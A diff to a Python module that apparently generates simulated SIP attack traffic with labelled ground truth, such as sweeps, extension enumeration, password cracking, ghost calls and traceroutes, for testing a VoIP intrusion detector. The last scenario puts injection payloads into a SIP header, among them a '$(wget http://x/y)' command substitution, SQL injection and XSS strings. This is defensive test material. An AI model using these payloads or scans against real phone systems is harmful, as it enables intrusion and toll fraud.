@@ -6,10 +6,11 @@ from sipstory import Dialler, Phone, SipPts, SipVicious, Story, sipvicious_tag  
 
 ATTACKS = []
 MAY = ",(exploit),(flood),(ghost-call),(probe)"
-SWEEP, PROBE = "sweep" + MAY, "probe,(exploit),(flood),(sweep)"
-ENUM, CRACK = "enumerate,(sweep)" + MAY, "crack,(enumerate),(flood),(probe)"
-BREACH, GHOST = "crack,breach,(enumerate),(flood),(probe)", "ghost-call,(sweep),(flood),(probe)"
-TOLL, FLOOD = "toll-fraud,(enumerate),(probe),(crack),(ghost-call)", "flood,(probe),(enumerate),(sweep),(toll-fraud),(crack)"
+SWEEP, PROBE = "sweep" + MAY, "probe,(exploit),(flood)"
+ENUM, CRACK = "enumerate" + MAY, "crack,(enumerate),(flood),(probe)"
+BREACH, GHOST = "crack,breach,(enumerate),(flood),(probe)", "ghost-call,sweep,(flood),(probe)"
+RINGS = "ghost-call,(sweep),(flood),(probe)"
+TOLL, FLOOD = "toll-fraud,(enumerate),(probe)", "flood,(probe)"
 ACCOUNTS = {"100": "verysecret100", "101": "verysecret101", "102": "x9x9x9", "200": "p200p", "1000": "1234", "1001": "pw1001x"}
 
 
@@ -365,7 +366,7 @@ def mrsip_enum(s, method="REGISTER", leaks=True):
         source, request = ("203.0.113.51", tool.port()), tool.text(method, str(90 + n), PBX)
         s.say(1 + n * 0.05, source, pbx.at, request)
         pbx.take(1 + n * 0.05, source, request)
-    return {"203.0.113.51": ENUM + ",(toll-fraud)"}
+    return {"203.0.113.51": ENUM}
 
 
 @attack("mrsip-das")
@@ -571,14 +572,14 @@ def evade_tcp(s, cut=None, together=1):
 
 @attack("ghost-100", caller="100")
 @attack("ghost-1000-shuffled", caller="1000", order="shuffle")
-@attack("ghost-1101-five", caller="1101", phones=LIVE[3:8])
+@attack("ghost-1101-five", caller="1101", phones=LIVE[3:8], truth=RINGS)
 @attack("ghost-named", caller="4921112345", agent="Yealink SIP-T46S 66.86.0.15")
 @attack("ghost-no-agent", caller="1001", agent=None)
 @attack("ghost-slow", caller="1101", gap=300.0)
 @attack("ghost-answered", caller="100", final=(4, 200, "OK"))
 @attack("ghost-declined", caller="100", final=(6, 603, "Decline"))
 @attack("ghost-with-cancel", caller="1101", cancel=2.0)
-def ghost(s, caller, phones=LIVE, agent="sipcli/v1.8", gap=1.5, order=None, final=None, cancel=None):
+def ghost(s, caller, phones=LIVE, agent="sipcli/v1.8", gap=1.5, order=None, final=None, cancel=None, truth=GHOST):
     live, phones = phones_at(s, final=final), list(phones)
     if order:
         s.rng.shuffle(phones)
@@ -598,7 +599,7 @@ def ghost(s, caller, phones=LIVE, agent="sipcli/v1.8", gap=1.5, order=None, fina
             s.say(at + cancel, source, (phone, 5060), stop)
             s.say(at + cancel + 0.01, (phone, 5060), source, answer(stop, 200, "OK", to_tag="5"))
             s.say(at + cancel + 0.02, (phone, 5060), source, answer(request, 487, "Request Terminated", to_tag="5"))
-    return {"203.0.113.70": GHOST}
+    return {"203.0.113.70": truth}
 
 
 @attack("ghost-sipp")
@@ -745,3 +746,102 @@ def mix(s, do):
         source = (who, s.rng.randint(20000, 60000))
         send(s, 30 + n, source, (target, 5060), random_probe(s, source, target), live)
     return {who: SWEEP}
+
+
+# --- small and plain ones --------------------------------------------------------------------------------------------------
+
+@attack("small-sweep-16", count=16)
+@attack("small-sweep-12-shuffled", count=24, order="shuffle")
+def small_sweep(s, count, order=None):
+    live, targets = {a: t for a, t in everybody(s).items() if a in LIVE[:3]}, NETWORK[15:15 + count]
+    if order:
+        s.rng.shuffle(targets)
+    for n, target in enumerate(targets):
+        source = ("203.0.113.127", s.rng.randint(20000, 60000))
+        send(s, 1 + n, source, (target, 5060), random_probe(s, source, target), live)
+    return {"203.0.113.127": SWEEP}
+
+
+@attack("plain-enumerate", kind="pjsip")
+@attack("plain-enumerate-slow", kind="linphone", pace=600.0)
+@attack("plain-enumerate-hardened", kind="zoiper", leaks=False)
+@attack("plain-enumerate-options", kind="asterisk", method="OPTIONS")
+@attack("plain-enumerate-invite", kind="zoiper", method="INVITE")
+def plain_enumerate(s, kind, pace=0.5, leaks=True, method="REGISTER"):
+    """No known grammar: only what it does."""
+    pbx = pbx_of(s, leaks=leaks) if method == "REGISTER" else TargetPbx(s, PBX, ACCOUNTS, leaks=True)
+    for n in range(40):
+        user = str(90 + n)
+        stack = Stack(s, kind, "203.0.113.128", user)
+        request = stack.request(method, f"sip:{PBX}" if method == "REGISTER" else f"sip:{user}@{PBX}", user, PBX)
+        s.say(1 + n * pace, stack.seen_as, pbx.at, request)
+        pbx.take(1 + n * pace, stack.seen_as, request)
+    return {"203.0.113.128": ENUM}
+
+
+@attack("plain-enumerate-80-sources")
+def plain_spread(s):
+    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 181)]
+    for n in range(320):
+        user = str(4000 + n)
+        stack = Stack(s, "pjsip", sources[n % 80], user)
+        request = stack.request("REGISTER", f"sip:{PBX}", user, PBX)
+        s.say(1 + n * 8, stack.seen_as, pbx.at, request)
+        pbx.take(1 + n * 8, stack.seen_as, request)
+    return dict.fromkeys(sources, ENUM)
+
+
+@attack("plain-sweep-80-sources")
+def plain_sweep_spread(s):
+    sources, targets = [f"192.0.2.{n}" for n in range(101, 181)], list(NETWORK)
+    s.rng.shuffle(targets)
+    for n in range(80):
+        stack, target = Stack(s, "spa", sources[n], "100"), targets[n % 64]
+        s.say(1 + n * 8, stack.seen_as, (target, 5060), stack.request("OPTIONS", f"sip:100@{target}", "100", target))
+    return dict.fromkeys(sources, SWEEP)
+
+
+@attack("plain-crack", pace=0.3)
+@attack("plain-crack-10s", pace=10.0)
+@attack("plain-crack-one-call-id", pace=0.2, fresh=False)
+@attack("plain-crack-success", pace=1.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
+@attack("plain-crack-10s-success", pace=10.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
+def plain_crack(s, pace, fresh=True, guesses=[f"x{n}" for n in range(60)], user="101", truth=CRACK):
+    pbx, stack = pbx_of(s), Stack(s, "zoiper", "203.0.113.129", user)
+    for n, guess in enumerate(guesses):
+        stack.register(1 + n * pace, pbx, guess, fresh=fresh)
+    return {"203.0.113.129": truth}
+
+
+@attack("ghost-three", phones=LIVE[5:8], truth=RINGS)
+@attack("ghost-random-caller", shuffled=True)
+def plain_ghost(s, phones=LIVE, shuffled=False, truth=GHOST):
+    live = phones_at(s)
+    for n, phone in enumerate(s.rng.sample(phones, len(phones)) if shuffled else phones):
+        stack = Stack(s, "pjsip", "203.0.113.130", s.digits(4, 11))
+        request = stack.request("INVITE", f"sip:{phone}", "x", phone, body=sdp("203.0.113.130", 4000))
+        send(s, 1 + n * 20, stack.seen_as, (phone, 5060), request, live)
+    return {"203.0.113.130": truth}
+
+
+@attack("sipsak-traceroute", truth="probe")
+def trace(s, truth):
+    for hops in range(2):
+        port = s.rng.randint(33000, 60000)
+        request = sipsak(s, "203.0.113.66", port, "OPTIONS", f"sip:100@{PBX}")
+        request.fields = [("Max-Forwards", str(hops)) if f[0] == "Max-Forwards" else f for f in request.fields]
+        s.say(1 + hops, ("203.0.113.66", port), (PBX, 5060), request)
+        s.say(1.004 + hops, (PBX, 5060), ("203.0.113.66", port), answer(request, 200 if hops else 483, "OK" if hops else "Too Many Hops", to_tag="x"))
+    return {"203.0.113.66": truth}
+
+
+@attack("injection", truth="exploit,(probe),(enumerate)")
+def injection(s, truth):
+    pbx = pbx_of(s)
+    for n, text in enumerate(["' or '1'='1' -- ", "1;DROP TABLE sip;--", "$(wget http://x/y)", "<script>alert(1)</script>", "%n%n%n%s%s"]):
+        stack = Stack(s, "zoiper", "203.0.113.131", "100")
+        request = stack.request("REGISTER", f"sip:{PBX}", "100", PBX)
+        request.fields = [("From", f'"{text}" <sip:100@{PBX}>;tag=1') if f[0] == "From" else f for f in request.fields]
+        s.say(1 + n, stack.seen_as, pbx.at, request)
+        pbx.take(1 + n, stack.seen_as, request)
+    return {"203.0.113.131": truth}
